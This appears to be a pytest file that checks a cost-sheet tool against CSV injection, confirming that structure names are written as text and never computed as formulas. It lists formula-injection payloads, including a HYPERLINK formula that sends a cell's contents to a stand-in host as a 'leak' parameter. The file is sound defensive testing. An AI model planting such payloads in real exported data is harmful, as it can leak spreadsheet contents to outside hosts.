"""A structure's name is the structure's own text: written in the CSV cost sheets, it must never
become a formula in the spreadsheet that opens them (OWASP's "CSV injection").

Attacked as a structure would: its structure file's `name` set to a formula, then `chaton costs`
run as the operator runs it, and the CSV read back as text and, where LibreOffice is installed,
opened by LibreOffice itself (which computes the formulas of a CSV it imports: `=1+1` becomes 2).
"""

from __future__ import annotations

import csv
import io
import re
import shutil
import subprocess
import zipfile
from pathlib import Path

import pytest
import yaml

from chaton.cli import main
from chaton.costs.writers.csvfiles import neutral
from costs.support import WORKED, needs

# Names a structure could give itself, each opening a formula in a spreadsheet (a name with a TAB
# or a CR is refused before: a single line of text without control characters).
HOSTILE = [
    "=1+1",
    '=HYPERLINK("http://example.invalid/?leak="&A1,"Cliquez ici")',
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\uff1d1+1",
]


def costs_with_name(tmp_path: Path, name: str, formats: str = "csv") -> Path:
    """The worked example's sheets (`formats`), written by `chaton costs` once L'Atelier's
    structure file names it `name`: the folder of the sheets."""
    inventory = tmp_path / "inventory"
    shutil.copytree(WORKED, inventory)
    path = inventory / "structures" / "atelier.yml"
    data = yaml.safe_load(path.read_text(encoding="utf-8"))
    data["name"] = name
    path.write_text(yaml.safe_dump(data, allow_unicode=True), encoding="utf-8")
    out = tmp_path / "out"
    code = main(
        ["costs", "-i", str(inventory), "--year", "2025", "--out", str(out), "--format", formats]
    )
    assert code == 0
    return out


def read(sheet: Path) -> list[list[str]]:
    """The rows of a CSV sheet, a quoted field's line breaks kept in it."""
    text = sheet.read_bytes().decode("utf-8")
    return list(csv.reader(io.StringIO(text, newline=""), strict=True))


def ods_content(workbook: Path) -> str:
    """The content.xml of an ODS workbook: its cells, their values and formulas."""
    with zipfile.ZipFile(workbook) as archive:
        return archive.read("content.xml").decode("utf-8")


@pytest.mark.parametrize("name", HOSTILE)
def test_a_formula_name_is_written_as_text(tmp_path: Path, english: None, name: str) -> None:
    out = costs_with_name(tmp_path, name)
    rows = read(out / "summary.csv")
    row = next(row for row in rows if row and row[0] == "atelier")
    # By hand: the name as the structure wrote it, after one apostrophe.
    assert row[1] == "'" + name
    # The sheets' numbers stay numbers: L'Atelier's bill is the worked example's (docs/costs.md).
    assert row[rows[0].index("Billed")] == "323.85"
    # No cell of any sheet starts a formula.
    for sheet in out.glob("*.csv"):
        for cells in read(sheet):
            for cell in cells:
                assert not (cell[:1] in "=+@\t\r\uff1d" and cell), (sheet.name, cell)
                assert not cell.startswith("-") or re.fullmatch(r"-[0-9]+(\.[0-9]+)?", cell)


def test_the_sheets_numbers_and_plain_text_are_left_as_they_are() -> None:
    assert neutral("-12.34") == "-12.34"
    assert neutral("-0.005") == "-0.005"
    assert neutral("323.85") == "323.85"
    assert neutral("L'Atelier") == "L'Atelier"
    assert neutral("Vélo-Cité") == "Vélo-Cité"
    assert neutral("") == ""
    assert neutral("-12.34+1") == "'-12.34+1"
    assert neutral("- 1") == "'- 1"
    # Labels of the costs file go through the same cells.
    assert neutral("\t=1+1") == "'\t=1+1"
    assert neutral("\r=1+1") == "'\r=1+1"


@needs("soffice")
def test_libreoffice_opens_the_name_as_text_and_computes_nothing(
    tmp_path: Path, english: None
) -> None:
    name = '=HYPERLINK("http://example.invalid/?leak="&B3,"Cliquez ici")'
    out = costs_with_name(tmp_path, name)
    converted = tmp_path / "converted"
    subprocess.run(
        [
            "soffice",
            f"-env:UserInstallation=file://{tmp_path / 'lo-profile'}",
            "--headless",
            # Comma-separated, double quotes, UTF-8, from the first line: how the sheets are
            # written; LibreOffice computes a formula it finds in such a file.
            "--infilter=CSV:44,34,76,1",
            "--convert-to",
            "ods",
            "--outdir",
            str(converted),
            str(out / "summary.csv"),
        ],
        check=True,
        capture_output=True,
        timeout=180,
    )
    content = ods_content(converted / "summary.ods")
    assert "table:formula" not in content
    assert "Cliquez ici</text:p>" not in content
    # The name, as text; L'Atelier's bill, as a number.
    assert "<text:p>&apos;=HYPERLINK(" in content
    assert 'office:value-type="float" office:value="323.85"' in content


def test_the_ods_and_html_sheets_show_a_formula_name_as_text(tmp_path: Path, english: None) -> None:
    name = '=HYPERLINK("http://example.invalid/","Cliquez ici")'
    out = costs_with_name(tmp_path, name, "ods,html")
    content = ods_content(out / "summary.ods")
    # The workbook's own formulas are there; none is the name's.
    assert "table:formula" in content
    assert "HYPERLINK" not in "".join(re.findall(r'table:formula="[^"]*"', content))
    cell = f'office:value-type="string"><text:p>{name}</text:p>'
    assert cell in content
    page = (out / "summary.html").read_text(encoding="utf-8")
    assert "<td>=HYPERLINK(&#34;http://example.invalid/&#34;,&#34;Cliquez ici&#34;)</td>" in page
    assert 'href="http://example.invalid' not in page
